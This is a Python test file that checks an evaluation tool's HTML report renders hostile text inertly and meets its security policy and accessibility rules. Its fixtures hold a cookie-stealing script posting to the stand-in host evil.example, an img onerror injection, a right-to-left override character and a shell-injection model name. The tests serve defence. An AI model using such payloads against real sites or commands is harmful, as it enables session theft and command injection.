"""report.html shows the run's files, and nothing that a model wrote runs in it."""

import base64
import hashlib
import itertools
import json
import re
import shlex
from pathlib import Path

import polars as pl
import pytest

from flows.commands.cli import parse
from flows.commands.parameter_options import given_parameters
from tasks.errors import ConfigError
from tasks.files import read_json
from tasks.plan.run_config import build_config, config_from_parameters
from tasks.plan.run_directory import reproduce_command
from tasks.records import RunPaths
from tasks.results.page_lengths import ArmLengths, LengthBins, arm_lengths, length_bins
from tasks.results.page_plots import length_plot
from tasks.results.page_template import content_policy
from tasks.results.page_timeline import read_timeline
from tasks.results.report_page import publish_page
from tasks.results.run_report import read_report
from tasks.results.scored_rollouts import load_metric_rows
from tasks.storage.run_files import published_files
from tests.support.harvest_command import Tell
from tests.support.html_page import Page
from tests.support.report_run import HOSTILE, write_report_run
from tests.support.synthetic import write_run

ARM = "algebra\"'><img src=x onerror=alert(1)>\u202e"
"""The id of an arm in a run of somebody else."""


@pytest.fixture(scope="module")
def run(tmp_path_factory: pytest.TempPathFactory) -> RunPaths:
    accuracy = {"step_by_step": 0.9, "concise": 0.1, ARM: 0.5}
    run = write_report_run(
        tmp_path_factory.mktemp("runs") / "run",
        questions_per_shard=15,
        arms=list(accuracy),
        samples=2,
        min_tokens=4,
        top_k=5,
        accuracy=accuracy,
    )
    publish_page(run.root)
    return run


@pytest.fixture(scope="module")
def page(run: RunPaths) -> Page:
    return Page(run.report_html.read_text(encoding="utf-8"))


def test_hostile_text_is_text(page: Page, run: RunPaths) -> None:
    """In questions, prompts, completions, errors, answers, names of arms, names and values of a scorer's columns."""
    tags = [tag for tag, _ in page.elements]
    assert not {"iframe", "object", "embed", "form", "base", "img"} & {*tags}
    assert (tags.count("script"), tags.count("style")) == (1, 1)
    for tag, attributes in page.elements:
        assert not [name for name in attributes if name.startswith("on")]
        assert not {"src", "srcset", "action", "data", "style", "xlink:href"} & attributes.keys()
        assert re.fullmatch("data:,|#[a-z]+", attributes.get("href") or "#x"), tag
    for words in (
        "<script>fetch('https://evil.example/'+document.cookie)</script>",
        "{{7*7}}",
        "judge <script>fetch('https://evil.example/'+document.cookie",
        "algebra\"'><img src=x onerror=alert(1)>[RIGHT-TO-LEFT OVERRIDE]",
    ):
        assert words in page.words, words
    raw = run.report_html.read_text(encoding="utf-8")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", raw)
    assert max(map(len, re.findall("A+", raw))) < 2_000 < len(HOSTILE)


def test_the_policy_forbids_other_scripts_and_requests(page: Page, run: RunPaths) -> None:
    [policy] = [attributes["content"] for _, attributes in page.elements if "http-equiv" in attributes]
    assert policy == content_policy(served=False)
    raw = run.report_html.read_bytes()
    hashes = {
        name: base64.b64encode(hashlib.sha256(raw.split(f"<{name}>".encode())[1].split(b"</")[0]).digest()).decode()
        for name in ("script", "style")
    }
    assert policy == (
        "default-src 'none'; base-uri 'none'; form-action 'none'; img-src data:; "
        f"style-src 'sha256-{hashes['style']}'; script-src 'sha256-{hashes['script']}'"
    )


def test_everything_is_reached_by_keyboard_and_named(page: Page) -> None:
    named = {"input": "search", "select": None, "button": "button"}
    controls = [(tag, attributes) for tag, attributes in page.elements if tag in named]
    assert {tag for tag, _ in controls} == {*named}
    assert all(attributes.get("type") == named[tag] for tag, attributes in controls)
    scrolled = [attributes for _, attributes in page.elements if attributes.get("class") == "scroll"]
    assert all(attributes["tabindex"] == "0" and attributes["aria-label"] for attributes in scrolled)
    ids = [attributes["id"] for _, attributes in page.elements if "id" in attributes]
    assert len(ids) == len({*ids})
    wanted = {(attributes.get("href") or "")[1:] for tag, attributes in page.elements if tag == "a"}
    wanted |= {attributes["data-for"] or "" for _, attributes in page.elements if "data-for" in attributes}
    assert wanted <= {*ids}


def luminance(colour: str) -> float:
    parts = [int(colour[index : index + 2], 16) / 255 for index in (1, 3, 5)]
    red, green, blue = (part / 12.92 if part <= 0.03928 else ((part + 0.055) / 1.055) ** 2.4 for part in parts)
    return 0.2126 * red + 0.7152 * green + 0.0722 * blue


@pytest.mark.parametrize("scheme", [0, 1], ids=["light", "dark"])
def test_text_has_enough_contrast(scheme: int, run: RunPaths) -> None:
    """WCAG 2.2, 1.4.3: at least 4.5 to 1."""
    raw = run.report_html.read_text(encoding="utf-8")
    pair = r"light-dark\((#[0-9a-f]{6}), (#[0-9a-f]{6})\)"
    tones = re.findall(rf"\{{ color: {pair}; background: {pair}; \}}", raw)
    colours = {name: values[scheme] for name, *values in re.findall(rf"--(\w+): {pair}", raw)}
    on_paper = [(colours[name], colours["paper"]) for name in ("ink", "soft", "blue", "orange", "grey", "red")]
    on_ground = [(colours[name], colours["ground"]) for name in ("ink", "soft")]

    assert len(tones) == 4
    for text, ground in [*((tone[scheme], tone[2 + scheme]) for tone in tones), *on_paper, *on_ground]:
        dark, light = sorted(map(luminance, (text, ground)))
        assert (light + 0.05) / (dark + 0.05) >= 4.5, (text, ground)
    assert {*re.findall(r'fill="(?!none)([^"]+)"', raw)} <= {f"var(--{name},{light})" for name, light in fallbacks(raw)}


def fallbacks(raw: str) -> list[tuple[str, str]]:
    return re.findall(r"--(\w+): light-dark\((#[0-9a-f]{6})", raw)


def test_it_shows_every_part(page: Page, run: RunPaths) -> None:
    report = read_report(run.root)
    assert report is not None
    headings = [tag for tag, _ in page.elements if re.fullmatch("h[1-6]", tag)]
    assert headings[0] == "h1"
    assert headings.count("h1") == 1
    assert all(int(after[1]) - int(before[1]) <= 1 for before, after in itertools.pairwise(headings))
    for words in (
        "Health needs a look",
        "Equivalence different",
        f"{report.mean_reward:.3f}",
        "step_by_step is better than concise by",
        "cut off by max_tokens",
        "right but in another form",
        "start-up 2:02 generating 5:56",
        "Tokens are not tinted",
        "suspect ground truths 2 mean reward without them: 0.457",
        "GPU utilization",
        "engines per GPU 2 MPS on: a daemon of the run's own",
        "out of device memory: rung 0 to 1",
        "replica 0 was started again",
        "the run was resumed",
        "Speed-up",
        "Cost",
        "Worst divergences from the baseline",
        "Logprobs recomputed as a trainer does",
        "Temperature: of 2 from 0.7 to 1, 1 fits best",
        "harvest run --profile h100x8 --model 'evil'\"'\"'; rm' --dataset openai/gsm8k",
        read_json(run.config)["fingerprint"],
    ):
        assert words in page.words, words
    sections = [a["id"] for tag, a in page.elements if tag == "section" and "id" in a]
    links = [a["href"].removeprefix("#") for tag, a in page.elements if tag == "a" and a["href"].startswith("#")]
    assert [name for name in links if name in sections] == sections
    pictures = [attributes for tag, attributes in page.elements if tag == "svg"]
    assert len(pictures) == 8
    assert all(picture["role"] == "img" and picture["aria-label"] for picture in pictures)
    kinds = [a["class"] for tag, a in page.elements if tag == "span" and (a.get("class") or "").startswith("tag")]
    assert {"tag good", "tag bad", "tag careful"} == {*kinds}


def test_the_table_has_the_order_of_the_plots(page: Page) -> None:
    rows = page.words.partition("pass@k")[2]
    plots = page.words.partition("Mean reward by arm")[2]
    for words in (rows, plots):
        assert sorted(("step_by_step", "algebra", "concise"), key=words.index) == ["step_by_step", "algebra", "concise"]
    assert [a["aria-sort"] for tag, a in page.elements if "aria-sort" in a] == ["descending"]


def test_a_run_without_anything_else(tmp_path: Path) -> None:
    run = write_run(tmp_path / "plain", arms=2)
    publish_page(run.root)

    words = Page(run.report_html.read_text(encoding="utf-8")).words
    assert "not compared" in words
    assert "Throughput" not in words
    assert "Logprobs recomputed" not in words
    assert "report.html" in published_files(run.root)


def test_the_same_files_make_the_same_page(run: RunPaths) -> None:
    before = run.report_html.read_bytes()
    assert publish_page(run.root).read_bytes() == before


def test_an_unscored_run_has_no_report(tmp_path: Path) -> None:
    run = write_run(tmp_path / "unscored", with_scores=False)
    with pytest.raises(ConfigError, match="is not scored"):
        publish_page(run.root)


def test_every_completion_is_in_one_bin(run: RunPaths) -> None:
    rows = load_metric_rows(run).filter(pl.col("error").is_null())
    bins = length_bins(load_metric_rows(run), bins=7)

    assert (sum(bins.ended) + sum(bins.truncated), len(bins.ended)) == (rows.height, len(bins.edges) - 1)
    for index, (low, high) in enumerate(itertools.pairwise(bins.edges)):
        inside = rows.filter(pl.col("num_completion_tokens").is_between(low, high, closed="left"))
        assert bins.ended[index] + bins.truncated[index] == inside.height


def test_a_tiny_run_has_no_half_counts() -> None:
    plot = str(length_plot(LengthBins(edges=(0.0, 1.0, 2.0), ended=(1, 0), truncated=(0, 1))))
    assert ">1</text>" in plot
    assert "0.5</text>" not in plot


def test_lengths_of_right_and_wrong() -> None:
    rows = pl.DataFrame(
        {
            "arm_id": ["a"] * 6 + ["b", "c"],
            "reward": [1.0, 1.0, 1.0, 0.0, 0.0, None, 1.0, None],
            "error": [None] * 7 + ["too long"],
            "num_completion_tokens": [10, 20, 30, 7, 9, 500, 4, 0],
        }
    )
    found = arm_lengths(rows)
    assert {arm: (medians(lengths), rollouts(lengths)) for arm, lengths in found.items()} == {
        "a": ((20, 8), (3, 2)),
        "b": ((4, None), (1, None)),
    }


def medians(lengths: ArmLengths) -> tuple[float | None, ...]:
    return tuple(spread and spread.p50 for spread in (lengths.right, lengths.wrong))


def rollouts(lengths: ArmLengths) -> tuple[int | None, ...]:
    return tuple(spread and spread.rollouts for spread in (lengths.right, lengths.wrong))


def test_the_timeline_leaves_out_start_up_and_the_time_between_sessions(run: RunPaths) -> None:
    report = read_report(run.root)
    assert report is not None
    timeline = read_timeline(run.telemetry, report.oom_ladder)

    assert timeline is not None
    assert timeline.startups == (61, 61)
    assert timeline.seconds == 2 * 178
    assert [(mark.kind, mark.seconds) for mark in timeline.marks] == [
        ("oom", 59),
        ("restart", 89),
        ("session", 178),
        ("restart", 267),
    ]
    tokens = next(panel for panel in timeline.panels if panel.name == "tokens/s")
    assert max(value for _, value in tokens.points if value is not None) == pytest.approx(900)


@pytest.mark.parametrize(
    "parameters",
    [
        {},
        {"profile": "h100-sxm", "model": "org/it's a model", "dataset": "-odd name.jsonl", "questions": 7},
        {"temperature": 0.0, "top_p": 0.95, "samples_per_arm": 1, "seed": 3, "top_logprobs": 5, "name": "mine"},
        {"lengths": "lognormal:64:0.8", "max_tokens": 300, "shard_size": 9, "scorer": "math", "arms": "math8"},
        {"dataset": "openai/gsm8k", "dataset_config": "socratic", "split": "train", "id_column": "key"},
        {"filters": ["level=5", "-x~^a b"], "shuffle_seed": 0, "streaming": True, "stop": ["\n\n", "Question:"]},
        {"prompt_format": "plain", "prompt_template": "Q: {question}\nA:"},
        {"chat_template_kwargs": {"enable_thinking": False, "tools": [{"name": "it's"}]}},
    ],
)
def test_the_command_makes_the_same_configuration(parameters: dict[str, object]) -> None:
    config = config_from_parameters(parameters)
    command = reproduce_command(config.model_dump(mode="json"))

    options = parse(shlex.split(command)[1:]).params
    assert config_from_parameters(given_parameters(options)) == config
    assert parameters or command == "harvest run --profile cpu-demo"
    assert build_config(json.loads(config.model_dump_json())) == config


def test_command(run: RunPaths, tell: Tell) -> None:
    made = tell("report", run.root, "--json")
    assert made.report == {"report": str(run.report_html), "bytes": run.report_html.stat().st_size}, made.stderr
    assert (run.root / "README.md").is_file()
    assert tell("report", "nowhere").code == 2
